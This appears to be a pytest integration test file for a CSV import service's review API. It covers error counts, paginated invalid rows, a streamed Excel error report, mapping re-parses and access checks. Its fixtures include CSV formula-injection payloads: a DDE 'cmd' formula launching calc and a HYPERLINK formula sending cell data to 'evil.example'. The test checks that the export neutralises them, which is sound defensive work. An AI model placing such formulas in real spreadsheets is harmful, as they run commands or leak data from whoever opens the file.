"""The review API over real HTTP on the local stack: counts by code, pages of invalid rows,
the error report CSV, a new mapping (which re-parses), and who may see what."""

from __future__ import annotations

import csv
import io
import uuid
from typing import Any

import boto3
import httpx
import pytest
from moto.server import ThreadedMotoServer

from lib.auth import mint_token
from lib.local.stack import LOCAL_MEMBERS, LOCAL_ORG
from lib.review import FORMULA_START
from tests.helpers import (
    HEADER_FR,
    MAPPING_FR,
    Api,
    add_other_org,
    assert_matches,
    edge_case_file,
    make_stack,
    parse_counts,
    staged,
    wait_for_status,
)


@pytest.fixture
def ready_job(stack, conn) -> dict[str, Any]:
    """The 60-row edge-case file, parsed: 12 invalid rows (6 malformed, 6 without contact),
    6 rows with a bad email (a warning), 6 duplicates."""
    data, exp = edge_case_file(60)
    job = Api(stack).parse(conn, data, "Prospects été.csv")
    assert_matches(job, exp)
    return job


@pytest.mark.history
def test_errors_counts_and_example_rows(stack, ready_job) -> None:
    with Api(stack).client() as client:
        r = client.get(f"/api/jobs/{ready_job['id']}/errors")
    assert r.status_code == 200
    body = r.json()
    assert (body["total_rows"], body["valid_rows"], body["invalid_rows"], body["duplicate_rows"]) == (60, 48, 12, 6)
    errors = {e["code"]: e for e in body["errors"]}
    assert {c: e["count"] for c, e in errors.items()} == ready_job["error_counts"]
    # Row i + 1 is of kind i % 10: kind 4 is malformed, kind 6 has no contact, kind 7 a bad email.
    assert errors["malformed_row"]["example_rows"] == [5, 15, 25, 35, 45]
    assert errors["no_contact"]["example_rows"] == [7, 17, 27, 37, 47]
    assert errors["invalid_email"]["example_rows"] == [7, 17, 27, 37, 47]
    assert "No valid email" in errors["no_contact"]["message"]
    warnings = {w["code"]: w for w in body["warnings"]}
    assert set(warnings) == {"invalid_email"}
    assert warnings["invalid_email"]["count"] == 6
    assert warnings["invalid_email"]["example_rows"] == [8, 18, 28, 38, 48]
    assert "imported" in warnings["invalid_email"]["message"]


@pytest.mark.history
def test_invalid_rows_by_keyset_pages(stack, conn, ready_job) -> None:
    job_id = ready_job["id"]
    with Api(stack).client() as client:
        pages, after = [], 0
        while after is not None:
            r = client.get(f"/api/jobs/{job_id}/invalid-rows", params={"after": after, "limit": 5})
            assert r.status_code == 200
            pages.append(r.json())
            after = r.json()["next_after"]
        for params in ({"limit": "x"}, {"after": "-1"}, {"limit": "0"}, {"limit": 10_000}, {"page": 2}):
            bad = client.get(f"/api/jobs/{job_id}/invalid-rows", params=params)
            assert bad.status_code == 400, params
            assert next(iter(params)) in bad.json()["message"]
        assert len(client.get(f"/api/jobs/{job_id}/invalid-rows", params={"limit": 500}).json()["rows"]) == 12
    assert [len(p["rows"]) for p in pages] == [5, 5, 2]
    rows = {row["row_no"]: row for p in pages for row in p["rows"]}
    expected = conn.execute("select row_no from staged_rows where job_id = %s and not valid order by row_no", (job_id,))
    assert list(rows) == [r["row_no"] for r in expected] == [5, 7, 15, 17, 25, 27, 35, 37, 45, 47, 55, 57]
    assert pages[0]["header"] == HEADER_FR.split(";")

    malformed = rows[5]
    assert malformed["values"] == {
        "Civilité": "M.", "Prénom": "Trop", "Nom": "Long", "E-mail": "lea.martin4@exemple.fr",
        "Téléphone": "0612000004", "Société": "Société", "Commentaire": "Client fidèle — 1 200 €",
    }  # fmt: skip
    assert malformed["extra_cells"] == ["en trop"]
    assert [r["code"] for r in malformed["reasons"]] == ["malformed_row"]
    assert "8 cells" in malformed["reasons"][0]["message"] and "7 columns" in malformed["reasons"][0]["message"]
    # The facts of each text come with it, for a page that words it in French.
    assert (malformed["reasons"][0]["cells"], malformed["reasons"][0]["columns"]) == (8, 7)

    no_contact = rows[7]
    assert [r["code"] for r in no_contact["reasons"]] == ["no_contact", "invalid_email", "invalid_phone"]
    messages = " ".join(r["message"] for r in no_contact["reasons"])
    assert "à voir" in messages and "inconnu" in messages
    values = {r["code"]: r.get("value") for r in no_contact["reasons"]}
    assert values == {"no_contact": None, "invalid_email": "à voir", "invalid_phone": "inconnu"}
    assert no_contact["extra_cells"] == []


FORMULA_HEADER = ["E-mail", "Téléphone", "=cmd|' /C calc'!A0", "Nom"]
FORMULA_ROWS = [
    # email, phone, third column, name; every row is invalid (no contact, or malformed)
    ["", "", '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")', "Dupont"],
    ["", "+33 6 12", "@SUM(1+1)*cmd|' /C calc'!A0", "-Martin"],
    ["pas-un-email", "", "+1+1", "\tTab"],
    ["", "", "\rretour", 'Le; "Petit"\nCafé'],
    ["lea@exemple.fr", "+33 6 12 34 56 78", "=1+1", "Noël", "=en trop"],
]


def formula_file() -> bytes:
    out = io.StringIO()
    writer = csv.writer(out, delimiter=";", lineterminator="\r\n")
    writer.writerow(FORMULA_HEADER)
    writer.writerow(["ok@exemple.fr", "", "", "Valide"])
    writer.writerows(FORMULA_ROWS)
    return out.getvalue().encode("utf-8")


def test_error_report_csv_for_excel(stack, conn) -> None:
    job = Api(stack).parse(conn, formula_file(), "Prospects été.csv")
    assert (job["total_rows"], job["invalid_rows"]) == (6, 5)
    with Api(stack).client() as client, client.stream("GET", f"/api/jobs/{job['id']}/error-report.csv") as r:
        assert r.status_code == 200
        assert r.headers["content-type"] == "text/csv; charset=utf-8"
        assert "content-length" not in r.headers  # streamed
        disposition = r.headers["content-disposition"]
        body = r.read()
    assert disposition.startswith("attachment;")
    assert 'filename="Prospects ete-errors.csv"' in disposition
    assert "filename*=UTF-8''Prospects%20%C3%A9t%C3%A9-errors.csv" in disposition
    assert body.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM, so Excel reads UTF-8
    assert b"\r\n" in body
    table = list(csv.reader(io.StringIO(body[3:].decode("utf-8"), newline=""), delimiter=";"))

    assert table[0] == ["Row", "E-mail", "Téléphone", "'=cmd|' /C calc'!A0", "Nom", "Extra cells", "Reasons"]
    assert [line[0] for line in table[1:]] == ["2", "3", "4", "5", "6"]
    cells = {line[0]: line[1:] for line in table[1:]}
    assert cells["2"][:4] == ["", "", "'" + FORMULA_ROWS[0][2], "Dupont"]
    assert cells["3"][:4] == ["", "'+33 6 12", "'@SUM(1+1)*cmd|' /C calc'!A0", "'-Martin"]
    assert cells["4"][:4] == ["pas-un-email", "", "'+1+1", "'\tTab"]
    assert cells["5"][:4] == ["", "", "'\rretour", 'Le; "Petit"\nCafé']
    # A valid phone is neutralized too: Excel shows it as text.
    assert cells["6"][:5] == ["lea@exemple.fr", "'+33 6 12 34 56 78", "'=1+1", "Noël", "'=en trop"]
    assert "No valid email" in cells["2"][-1]
    assert "“pas-un-email”" in cells["4"][-1]
    assert "5 cells" in cells["6"][-1] and "4 columns" in cells["6"][-1]
    for line in table:
        for cell in line:
            assert not cell.startswith(FORMULA_START), cell


@pytest.mark.history
def test_error_report_streams_every_invalid_row_in_order(stack, conn) -> None:
    """More invalid rows than one page of the report's keyset walk (1000)."""
    lines = ["E-mail;Nom"] + [f"{'pas-un-email' if i % 3 else f'ok{i}@exemple.fr'};Nom {i}" for i in range(3600)]
    job = Api(stack).parse(conn, "\n".join(lines).encode(), "grand.csv")
    assert job["invalid_rows"] == 2400
    with Api(stack).client() as client, client.stream("GET", f"/api/jobs/{job['id']}/error-report.csv") as r:
        assert r.status_code == 200
        assert r.headers.get("transfer-encoding") == "chunked"
        body = b"".join(r.iter_bytes())
    table = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert table[0] == ["Row", "E-mail", "Nom", "Reasons"]
    assert [int(line[0]) for line in table[1:]] == [i + 1 for i in range(3600) if i % 3]
    assert table[-1][1:3] == ["pas-un-email", "Nom 3599"]


def job_urls(job_id: Any) -> list[tuple[str, str, dict[str, Any] | None]]:
    base = f"/api/jobs/{job_id}"
    return [
        ("GET", base, None),
        ("GET", f"{base}/errors", None),
        ("GET", f"{base}/invalid-rows", None),
        ("GET", f"{base}/error-report.csv", None),
        ("PUT", f"{base}/mapping", {"mapping": MAPPING_FR}),
    ]


def test_another_organizations_job_is_404(stack, conn, ready_job) -> None:
    _org, user = add_other_org(conn)
    with Api(stack, user).client() as outsider:
        for method, url, body in job_urls(ready_job["id"]):
            r = outsider.request(method, url, json=body)
            assert r.status_code == 404, (method, url, r.text)
            assert r.json()["error"] == "JobNotFound"
        # Its own jobs are fine, and its org sees nothing of the local one.
        assert outsider.get("/api/jobs").json()["jobs"] == []
    with Api(stack, LOCAL_MEMBERS[1]).client() as member:  # another member of the job's organization
        assert member.get(f"/api/jobs/{ready_job['id']}/errors").status_code == 200
        assert member.get("/api/jobs/not-a-uuid/errors").status_code == 404
        assert member.get(f"/api/jobs/{uuid.uuid4()}/invalid-rows").status_code == 404
    assert wait_for_status(conn, ready_job["id"], {"ready"})["run"] == ready_job["run"]  # nothing re-parsed


def test_missing_invalid_or_expired_token_is_401(stack, ready_job) -> None:
    secret = stack.env["SUPABASE_JWT_SECRET"]
    user, email, _ = LOCAL_MEMBERS[0]
    tokens = {
        "missing": None,
        "garbage": "Bearer not.a.token",
        "not_bearer": f"Basic {mint_token(secret, str(user), email)}",
        "expired": f"Bearer {mint_token(secret, str(user), email, expires_in=-120)}",
        "other_secret": f"Bearer {mint_token('another-secret-of-the-same-length-0123456', str(user), email)}",
    }
    with httpx.Client(base_url=stack.app_url, timeout=30) as client:
        for case, header in tokens.items():
            headers = {"Authorization": header} if header else {}
            for method, url, body in job_urls(ready_job["id"]):
                r = client.request(method, url, json=body, headers=headers)
                assert r.status_code == 401, (case, method, url)
                if case == "expired":
                    assert r.json()["error"] == "TokenExpired"


def test_mapping_change_while_not_ready_is_409(stack, conn) -> None:
    with Api(stack).client() as client:
        pending = client.post("/api/jobs", json={"file_name": "x.csv"}).json()["job"]
        r = client.put(f"/api/jobs/{pending['id']}/mapping", json={"mapping": MAPPING_FR})
        assert r.status_code == 409
        assert "ready" in r.json()["message"]
        client.post(f"/api/jobs/{pending['id']}/cancel")
        assert client.put(f"/api/jobs/{pending['id']}/mapping", json={"mapping": MAPPING_FR}).status_code == 409
    job = conn.execute("select * from import_jobs where id = %s", (pending["id"],)).fetchone()
    assert (job["status"], job["run"], job["mapping"]) == ("cancelled", 0, None)


@pytest.mark.parametrize(
    ("mapping", "code"),
    [
        ({"E-mail": None, "Téléphone": None, "Nom": "last_name"}, "no_contact_column"),
        ([None] * 7, "no_contact_column"),
        ({"Courriel": "email"}, "unknown_column"),
        (["email", "phone"], "mapping_length"),
        ([*MAPPING_FR[:-1], "birthday"], "unknown_field"),
        ([*MAPPING_FR[:-1], "email"], "field_used_twice"),
        ([1, 2, 3, 4, 5, 6, 7], "BadRequest"),
        ("email", "BadRequest"),
    ],
    ids=["dict_no_contact", "list_no_contact", "unknown_column", "length", "unknown_field", "twice", "types", "str"],
)
def test_invalid_mapping_is_400_and_changes_nothing(stack, conn, ready_job, mapping, code) -> None:
    before = staged(conn, ready_job["id"])
    with Api(stack).client() as client:
        r = client.put(f"/api/jobs/{ready_job['id']}/mapping", json={"mapping": mapping})
    assert r.status_code == 400
    assert r.json()["error"] == code
    assert r.json()["message"]
    job = conn.execute("select * from import_jobs where id = %s", (ready_job["id"],)).fetchone()
    assert (job["status"], job["run"], job["mapping"]) == ("ready", ready_job["run"], MAPPING_FR)
    assert staged(conn, ready_job["id"]) == before


@pytest.mark.history
def test_mapping_change_reparses_and_changes_counts(stack, conn, ready_job) -> None:
    job_id = ready_job["id"]
    original = staged(conn, job_id)
    # The phone column becomes a custom field: phone-only rows and rows whose email is bad
    # have no contact left; kind 6 keeps its bad email as a reason, loses its bad phone.
    header = HEADER_FR.split(";")
    new = dict(zip(header, MAPPING_FR, strict=True)) | {"Téléphone": None}
    with Api(stack).client() as client:
        r = client.put(f"/api/jobs/{job_id}/mapping", json={"mapping": new})
        assert r.status_code == 202, r.text
        shown = r.json()["job"]
        assert shown["status"] == "parsing"
        assert shown["run"] == ready_job["run"] + 1
        assert shown["mapping"] == [*MAPPING_FR[:4], None, *MAPPING_FR[5:]]
        assert shown["rows_expected"] == 60  # the last parse's count, until slices estimate it
        job = wait_for_status(conn, job_id, {"ready", "failed"})
        assert job["status"] == "ready", job["error_message"]
        assert (job["total_rows"], job["valid_rows"], job["invalid_rows"], job["duplicate_rows"]) == (60, 36, 24, 6)
        assert job["error_counts"] == {"malformed_row": 6, "no_contact": 18, "invalid_email": 12}
        assert job["warning_counts"] == {}
        errors = client.get(f"/api/jobs/{job_id}/errors").json()
        assert {e["code"]: e["example_rows"] for e in errors["errors"]}["no_contact"] == [7, 8, 10, 17, 18]
        rows = {r["row_no"]: r for r in staged(conn, job_id)}
        assert len(rows) == 60
        assert rows[1]["custom"] == {"Téléphone": "0612000000"} and rows[1]["phone_e164"] is None
        assert rows[10]["errors"] == ["no_contact"]

        # Back to the automatic mapping (as a list): the very same staged rows and counts.
        r = client.put(f"/api/jobs/{job_id}/mapping", json={"mapping": MAPPING_FR})
        assert r.status_code == 202, r.text
        job = wait_for_status(conn, job_id, {"ready", "failed"})
    assert parse_counts(job) == parse_counts(ready_job)
    assert staged(conn, job_id) == original
    assert job["run"] == ready_job["run"] + 2


# -- the browser's upload: a signed URL to an S3-protocol server ----------------------------


@pytest.fixture
def s3_env():
    server = ThreadedMotoServer(ip_address="127.0.0.1", port=0, verbose=False)
    server.start()
    host, port = server.get_host_and_port()
    env = {
        "S3_ENDPOINT_URL": f"http://{host}:{port}",
        "S3_ACCESS_KEY_ID": "test-key",
        "S3_SECRET_ACCESS_KEY": "test-secret",
        "S3_BUCKET": "imports",
        "S3_REGION": "us-east-1",
    }
    boto3.client(
        "s3", endpoint_url=env["S3_ENDPOINT_URL"], region_name="us-east-1",
        aws_access_key_id="test-key", aws_secret_access_key="test-secret",
    ).create_bucket(Bucket="imports")  # fmt: skip
    yield env
    server.stop()


def test_create_upload_to_signed_url_start_and_watch(database_url, tmp_path, conn, s3_env) -> None:
    """The frontend's whole flow over HTTP: POST /api/jobs, PUT the file to the signed
    upload URL, POST /start, then GET the job until it is ready. Slices of 7 rows read the
    object from their cursor (Range requests)."""
    data, exp = edge_case_file(40)
    with make_stack(database_url, tmp_path, IMPORT_PARSE_SLICE_ROWS="7", **s3_env) as s, Api(s).client() as client:
        r = client.post("/api/jobs", json={"file_name": "leads.csv", "organization_id": str(LOCAL_ORG)})
        assert r.status_code == 201, r.text
        job, upload_url = r.json()["job"], r.json()["upload_url"]
        assert job["status"] == "pending"
        assert upload_url.startswith(s3_env["S3_ENDPOINT_URL"] + "/imports/")
        assert "X-Amz-Signature=" in upload_url
        assert httpx.put(upload_url, content=data, timeout=30).status_code == 200
        assert client.post(f"/api/jobs/{job['id']}/start").status_code == 202
        wait_for_status(conn, job["id"], {"ready", "failed"})
        shown = client.get(f"/api/jobs/{job['id']}").json()["job"]
        again = client.post(f"/api/jobs/{job['id']}/start")  # started once only: a repeat returns the job
        assert again.status_code == 202 and again.json()["job"]["status"] == shown["status"]
    assert shown["status"] == "ready", shown["error_message"]
    assert (shown["rows_done"], shown["rows_expected"], shown["file_size"]) == (exp.rows, exp.rows, len(data))
    assert shown["slices_done"] == 1 + -(-exp.rows // 7) + (exp.rows % 7 == 0)
    assert_matches(conn.execute("select * from import_jobs where id = %s", (job["id"],)).fetchone(), exp)
